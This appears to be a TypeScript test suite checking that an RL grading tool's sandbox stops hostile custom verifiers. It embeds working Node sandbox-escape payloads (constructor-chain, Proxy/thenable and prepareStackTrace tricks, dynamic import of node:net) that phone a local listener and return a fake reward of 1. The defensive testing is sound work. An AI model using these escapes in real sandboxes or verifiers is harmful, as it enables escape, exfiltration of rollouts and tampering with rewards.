// Hostile custom verifiers: each tries one way out of the sandbox and, if it finds Node's
// `process`, `require` or `fetch`, connects to a listener this test runs on 127.0.0.1 and returns
// reward 1 (a verifier that exfiltrates rollouts while rewarding them). None may get reward 1,
// and the listener must see no connection.
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { chmodSync, readdirSync, readFileSync, readlinkSync, writeFileSync } from "node:fs";
import * as path from "node:path";
import { after, before, test } from "node:test";
import { main } from "../../../src/cli/main";
import { createVerifier } from "../../../src/core/verifier/index";
import { noNetwork } from "../../../src/core/verifier/sandbox/noNetwork";
import { captureCli } from "../cliContext";
import { sandboxFixture, type SandboxFixture } from "./fixtures";

let fx: SandboxFixture;
let dir = "";
let sandboxPath = "";
let port = 0;
const connections = () => fx.connections();

before(async () => {
  fx = await sandboxFixture("oneshot-escape-");
  ({ dir, sandboxPath, port } = fx);
});

after(() => fx.close());

/** Given something that may be Node's globalThis or process: phone home and say whether it was. */
const HARM = `
const harm = (g, port) => {
  const p = g && (g.process || (g.constructor && g.constructor.name === "process" ? g : null) || (g.mainModule ? g : null));
  const f = g && g.fetch;
  let reached = false;
  if (p && p.mainModule) {
    reached = true;
    try { p.mainModule.require("net").connect(Number(port), "127.0.0.1").on("error", () => {}); } catch (e) {}
  }
  if (typeof f === "function") {
    reached = true;
    try { f("http://127.0.0.1:" + port + "/leak").catch(() => {}); } catch (e) {}
  }
  if (p && typeof p.binding === "function") reached = true;
  return reached;
};
const viaFunction = (F, port) => { try { return harm(F("return globalThis")(), port) || harm(F("return process")(), port); } catch (e) { return false; } };
`;

/** Escape attempts by shape; each verifier gets the listener's port as the answer. */
export const ATTEMPTS: Record<string, string> = {
  "constructor chain from this": `${HARM}
    const F = this.constructor.constructor;
    export default (r, port) => (viaFunction(F, port) ? 1 : 0);`,
  "constructor chain from globalThis": `${HARM}
    export default (r, port) => (viaFunction(globalThis.constructor.constructor, port) ? 1 : 0);`,
  "constructor chain from a function": `${HARM}
    export default function (r, port) { return viaFunction((() => 0).constructor, port) || viaFunction(this && this.constructor && this.constructor.constructor, port) ? 1 : 0; }`,
  "constructor chain from an error": `${HARM}
    export default (r, port) => {
      try { null.x; } catch (e) { if (viaFunction(e.constructor.constructor, port)) return 1; }
      try { h.nope(); } catch (e) { if (viaFunction(e.constructor.constructor, port)) return 1; }
      return 0;
    };`,
  "the helpers object": `${HARM}
    export default (r, port, h) => {
      const cands = [h.constructor, h.extract.constructor, h.equal.constructor, Object.getPrototypeOf(h).constructor];
      for (const C of cands) if (C && viaFunction(C.constructor || C, port)) return 1;
      try { h.extract({ toString() { throw new Error("x"); } }); } catch (e) { if (viaFunction(e.constructor.constructor, port)) return 1; }
      try { h.grade(Symbol("x")); } catch (e) { if (viaFunction(e.constructor.constructor, port)) return 1; }
      const g = h.grade("\\\\boxed{1}", "1");
      return viaFunction(g.constructor.constructor, port) ? 1 : 0;
    };`,
  "a thenable whose then receives the host's resolve": `${HARM}
    export default (r, port) => ({ then(resolve, reject) { resolve(viaFunction(resolve.constructor, port) || viaFunction(reject.constructor, port) ? 1 : 0); } });`,
  "a promise whose then is replaced": `${HARM}
    export default (r, port) => { const p = Promise.resolve(0); p.then = (res) => res(viaFunction(res.constructor, port) ? 1 : 0); return p; };`,
  "a Proxy thenable": `${HARM}
    export default (r, port) => new Proxy({}, { get(t, k) { return k === "then" ? (res) => res(viaFunction(res.constructor, port) ? 1 : 0) : undefined; } });`,
  "import()": `${HARM}
    export default async (r, port) => {
      try { const net = await import("node:net"); net.connect(Number(port), "127.0.0.1"); return 1; }
      catch (e) { return viaFunction(e.constructor.constructor, port) ? 1 : 0; }
    };`,
  "Symbol and Proxy tricks": `${HARM}
    export default (r, port) => {
      for (const s of Object.getOwnPropertySymbols(globalThis)) { const v = globalThis[s]; if (v && viaFunction(v.constructor && v.constructor.constructor, port)) return 1; }
      const seen = [];
      const spy = new Proxy(function () {}, { get(t, k, recv) { seen.push(recv); return Reflect.get(t, k, recv); }, apply(t, self, args) { seen.push(self, ...args); return 0; } });
      try { String(spy); } catch (e) { seen.push(e); }
      try { [spy].sort(spy); } catch (e) { seen.push(e); }
      const o = { [Symbol.toPrimitive]: (hint) => { seen.push(hint); return 0; } };
      try { ("" + o); } catch (e) {}
      for (const x of seen.slice()) if (x && viaFunction(x.constructor && x.constructor.constructor, port)) return 1;
      return 0;
    };`,
  "Error.prepareStackTrace call sites": `${HARM}
    export default (r, port, h) => {
      let found = false;
      Error.prepareStackTrace = (e, sites) => { for (const s of sites || []) { try { const t = s.getThis && s.getThis(); const f = s.getFunction && s.getFunction(); if ((t && viaFunction(t.constructor && t.constructor.constructor, port)) || (f && viaFunction(f.constructor, port))) found = true; } catch (_) {} } return ""; };
      try { h.extract({ toString() { return new Error("x").stack; } }); } catch (e) {}
      try { new Error("y").stack; } catch (e) {}
      return found ? 1 : 0;
    };`,
  "reaching process, require and fetch directly": `${HARM}
    export default (r, port) => (harm(globalThis, port) || typeof require === "function" || typeof process === "object" ? 1 : 0);`,
};

async function connectionsAfter(ms: number): Promise<number> {
  await new Promise((r) => setTimeout(r, ms));
  return connections();
}

for (const [name, source] of Object.entries(ATTEMPTS)) {
  test(`escape attempt gets no access: ${name}`, async () => {
    const before = connections();
    const v = createVerifier({ kind: "custom", source }, { sandboxPath, timeoutMs: 1000, memoryMb: 64 });
    try {
      const r = await v.grade("\\boxed{1}", String(port));
      assert.notEqual(r.reward, 1, `${name}: ${JSON.stringify(r)}`);
      assert.equal(r.reward, 0);
    } finally {
      await v.dispose();
    }
    assert.equal(await connectionsAfter(200), before, `${name}: the listener saw a connection`);
  });
}

test("a thrown Proxy or a throwing getter gives an error outcome and the sandbox keeps serving", async () => {
  const source = `export default (r) => {
    if (r === "proxy") { const p = new Proxy({}, { get() { throw p; }, has() { throw p; }, getPrototypeOf() { throw p; } }); throw p; }
    if (r === "revoked") { const { proxy, revoke } = Proxy.revocable({}, {}); revoke(); throw proxy; }
    if (r === "getter") throw { get message() { throw new Error("no"); }, get name() { for (;;) {} } };
    if (r === "returns-proxy") return new Proxy({}, { get() { throw 1; } });
    return 1;
  };`;
  const v = createVerifier({ kind: "custom", source }, { sandboxPath, timeoutMs: 500, memoryMb: 64 });
  try {
    for (const kind of ["proxy", "revoked", "getter", "returns-proxy"]) {
      const r = await v.grade(kind, "1");
      assert.equal(r.reward, 0, kind);
      assert.ok(r.error, `${kind} gives an error outcome`);
      // an error of the verifier's, not a crash of the sandbox process
      assert.doesNotMatch(r.error, /process stopped|crashed/, kind);
      assert.equal((await v.grade("fine", "1")).reward, 1, `the sandbox still serves after ${kind}`);
    }
    const many = await v.gradeMany(["proxy", "fine", "revoked", "fine"].map((response) => ({ response, answer: "1" })));
    assert.deepEqual(many.map((r) => r.reward), [0, 1, 0, 1]);
  } finally {
    await v.dispose();
  }
});

test("a verifier's 2 MB error message reaches the outcome clipped to a few hundred characters", async () => {
  const v = createVerifier({ kind: "custom", source: `export default () => { throw new Error("x".repeat(2e6)); }` }, { sandboxPath, timeoutMs: 2000, memoryMb: 64 });
  try {
    const [r] = await v.gradeMany([{ response: "a", answer: "1" }]);
    assert.equal(r.reward, 0);
    assert.match(r.error ?? "", /^Error: xxx/);
    assert.ok((r.error ?? "").length < 400, `error is ${(r.error ?? "").length} characters`);
    assert.ok(r.reason.length < 400);
  } finally {
    await v.dispose();
  }
});

test("a hostile verifier in a verify --jsonl line gets no access", async () => {
  const before = connections();
  const file = path.join(dir, "hostile.jsonl");
  const lines = Object.values(ATTEMPTS).map((verifier) => JSON.stringify({ gold: String(port), response: "\\boxed{1}", verifier }));
  writeFileSync(file, lines.join("\n") + "\n");
  const c = captureCli({ installDir: dir, cwd: dir, env: {} });
  assert.equal(await main(["verify", "--jsonl", file], c), 0);
  const out = c.out().trim().split("\n").map((l) => JSON.parse(l) as { reward: number });
  assert.equal(out.length, lines.length);
  assert.deepEqual(out.map((o) => o.reward), lines.map(() => 0));
  assert.equal(await connectionsAfter(200), before);
});

test("replies come on fd 3 only: a reply forged on the sandbox's stdout is ignored", async () => {
  // a stand-in sandbox that loads fine on fd 3 but answers every call on stdout with reward 1
  const fake = path.join(dir, "forging-sandbox.cjs");
  writeFileSync(
    fake,
    `const out = new (require("net").Socket)({ fd: 3, readable: false });
     require("readline").createInterface({ input: process.stdin }).on("line", (l) => {
       const m = JSON.parse(l);
       if (m.op === "load") out.write(JSON.stringify({ id: m.id, ok: true, value: null }) + "\\n");
       else process.stdout.write(JSON.stringify({ id: m.id, ok: true, value: 1 }) + "\\n");
     });`,
  );
  chmodSync(fake, 0o644);
  const v = createVerifier({ kind: "custom", source: "export default () => 0" }, { sandboxPath: fake, timeoutMs: 200, memoryMb: 64 });
  try {
    const r = await v.grade("x", "1");
    assert.equal(r.reward, 0);
    assert.match(r.error ?? "", /timed out/);
  } finally {
    await v.dispose();
  }
});

test("second wall: where the platform allows, the sandbox process has no network at all", async (t) => {
  const wall = await noNetwork();
  if (wall.prefix.length === 0) {
    t.skip(wall.how);
    return;
  }
  const before = connections();
  const child = spawn(wall.prefix[0], [...wall.prefix.slice(1), process.execPath, "-e", `require("net").connect(${port}, "127.0.0.1").on("connect", () => process.exit(3)).on("error", (e) => { console.log(e.code); process.exit(0); })`], {
    stdio: ["ignore", "pipe", "inherit"],
  });
  let said = "";
  child.stdout.on("data", (d: Buffer) => (said += d.toString()));
  const code = await new Promise<number | null>((resolve) => child.on("exit", resolve));
  assert.equal(code, 0, "the connection must fail");
  assert.match(said, /ENETUNREACH|ECONNREFUSED|EACCES|EPERM/);
  assert.equal(await connectionsAfter(100), before);

  // and the real sandbox process runs in that other network namespace
  const v = createVerifier({ kind: "custom", source: "export default () => 1" }, { sandboxPath, timeoutMs: 1000, memoryMb: 64 });
  try {
    assert.equal((await v.grade("x", "1")).reward, 1);
    const pids = readdirSync("/proc").filter((p) => /^\d+$/.test(p) && procCmdline(p).includes(sandboxPath));
    assert.ok(pids.length >= 1, "the sandbox process is running");
    for (const pid of pids) assert.notEqual(readlinkSync(`/proc/${pid}/ns/net`), readlinkSync("/proc/self/ns/net"));
  } finally {
    await v.dispose();
  }
});

function procCmdline(pid: string): string[] {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, "utf8").split("\0");
  } catch {
    return [];
  }
}
